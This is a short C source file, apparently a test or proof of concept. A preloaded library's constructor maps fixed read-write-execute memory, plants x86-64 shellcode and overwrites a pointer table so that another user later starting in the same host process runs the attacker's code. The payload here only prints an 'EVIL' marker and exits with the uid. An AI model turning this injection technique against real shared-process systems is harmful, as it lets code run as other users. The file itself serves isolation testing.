/*
 * A library that a program of one user is started with. It puts code and pointers of its
 * own where gates are, if it can, and the process ends at once: whoever begins in that
 * host process would run them.
 */
#define _GNU_SOURCE
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#define GATES 0x5f000000UL
#define GATES_LEN 0x140000UL
#define POINTERS 0x5f060000UL
#define POINTERS_LEN 0x20000UL

extern const char code[], code_end[];
__asm__(".pushsection .rodata\n"
	"code: mov $1, %eax\n mov $2, %edi\n lea text(%rip), %rsi\n mov $text_end-text, %edx\n"
	" syscall\n mov $102, %eax\n syscall\n add $50, %eax\n mov %eax, %edi\n"
	" mov $60, %eax\n syscall\n"
	"text: .ascii \"EVIL: code of another user runs\\n\"\n"
	"text_end:\n"
	"code_end:\n"
	".popsection");

__attribute__((constructor)) static void begin(void)
{
	char *gates = mmap((void *)GATES, GATES_LEN, PROT_READ | PROT_WRITE | PROT_EXEC,
			   MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	unsigned long *pointers = (void *)POINTERS;

	if (gates != (void *)GATES)
		return;
	for (int page = 0; page < 4; page++)
		memcpy(gates + page * 4096, code, code_end - code);
	for (unsigned long i = 0; i < POINTERS_LEN / sizeof(*pointers); i++)
		pointers[i] = GATES;
	__asm__ volatile("syscall" : : "a"(SYS_exit_group), "D"(0) : "rcx", "r11", "memory");
}
